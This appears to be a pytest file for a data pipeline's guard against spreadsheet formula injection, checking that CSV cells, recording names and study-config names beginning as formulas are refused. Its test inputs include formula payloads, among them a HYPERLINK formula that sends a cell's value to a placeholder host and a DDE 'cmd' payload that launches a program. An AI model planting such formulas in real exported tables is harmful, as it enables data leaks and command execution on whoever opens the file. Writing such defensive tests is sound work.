"""Tables that people open in a spreadsheet hold no cell that it would run."""

import io

import numpy as np
import pandas as pd
import pytest
import xarray as xr

from pipeline.artifacts.recording import RecordingParts, write_recording
from pipeline.artifacts.storage.store import SCHEMA_VERSION
from pipeline.core.errors import BadConfiguration, BrokenArtifact
from pipeline.core.spreadsheet import check_cells, is_formula, write_csv
from pipeline.study.load import STUDIES, load_study

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://host/?"&A1,"x")',
    "+A1",
    "-A1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\rV1",
    "x\n=1",
    "a;=1+1",
    "=",
    "-",
    "＝1",
]
NAMES = [
    "V1",
    "",
    "L2/3",
    "a-b",
    "x = y",
    "p < .05; -0.3 to 0.4",
    "−2 (minus sign)",
    "vis@random-1",
    "a | b",
    "'=1",
    "a b",
]
NUMBERS = ["-1", "-0.5", "+3", "-1e-3", "-.5", "12"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas(text):
    assert is_formula(text)
    with pytest.raises(BrokenArtifact, match=r"my\.csv: region .* begins as a formula does .*; rename it") as caught:
        check_cells(["V1", text], "region", "my.csv")
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("text", [*NAMES, *NUMBERS])
def test_names_and_negative_numbers(text):
    assert not is_formula(text)


def test_a_table_is_written_as_pandas_does_and_refused_whole(tmp_path):
    table = pd.DataFrame({"region": NAMES, "r": np.linspace(-1, 1, len(NAMES)), "n": range(len(NAMES))})
    table.loc[0, "r"] = np.nan
    plain, ours = io.StringIO(), io.StringIO()
    table.to_csv(plain, index=False)
    write_csv(table, ours, "my.csv")
    assert ours.getvalue() == plain.getvalue()
    table.loc[3, "region"] = "=cmd|' /C calc'!A0"
    with pytest.raises(BrokenArtifact, match=r"my\.csv: region"):
        write_csv(table, tmp_path / "my.csv", "my.csv")
    assert not (tmp_path / "my.csv").exists()
    with pytest.raises(BrokenArtifact, match=r"my\.csv: column '=x'"):
        write_csv(pd.DataFrame({"=x": [1]}), ours, "my.csv")


def recording(**names):
    rng = np.random.default_rng(0)
    values = {"target": ["a", "b"], "region": ["V1", "V1"], "subject": ["s1", "-1"], **names}
    return xr.Dataset(
        {
            "responses": (("repeat", "sample", "target"), rng.standard_normal((1, 4, 2)).astype(np.float32)),
            "n_repeats": (("sample", "target"), np.ones((4, 2), np.int64)),
        },
        coords={
            "item": ("sample", list("wxyz")),
            "run": ("sample", ["r"] * 4),
            "stimulus": ("sample", ["s"] * 4),
            **{name: ("target", value) for name, value in values.items()},
        },
        attrs={
            "kind": "recording",
            "schema_version": SCHEMA_VERSION,
            "created_by": "test",
            "config_sha": "0",
            "inputs_sha": "0",
            "units": "a.u.",
            "sample_kind": "item",
            "high_pass_s": 0.0,
            "z_scored": 0,
            "n_subjects": 1,
        },
    )


@pytest.mark.parametrize("name", ["region", "subject", "compartment", "unit"])
def test_a_recording_whose_names_would_be_run_is_refused_before_anything_is_fitted(tmp_path, name):
    write_recording(recording(), tmp_path / "r.nc")
    whole = recording(**{name: ["V1", "=1+1"]})
    parts = RecordingParts(whole.drop_vars(["responses", "n_repeats"]), iter([whole["responses"].values]))
    for bad in (whole, parts):
        with pytest.raises(BrokenArtifact, match=rf"bad\.nc: {name} '=1\+1' begins as a formula"):
            write_recording(bad, tmp_path / "bad.nc")
    assert not (tmp_path / "bad.nc").exists()


def test_the_name_of_a_contrast(tmp_path):
    text = (STUDIES.folder / "alice.yaml").read_text()
    name = "name: SmolLM2 over word rate and frequency"
    assert text.count(name) == 1
    (tmp_path / "s.yaml").write_text(text.replace(name, 'name: "=1+1"'))
    with pytest.raises(BadConfiguration, match=r"contrasts\.0\.name: '=1\+1' begins as a formula"):
        load_study(str(tmp_path / "s.yaml"))
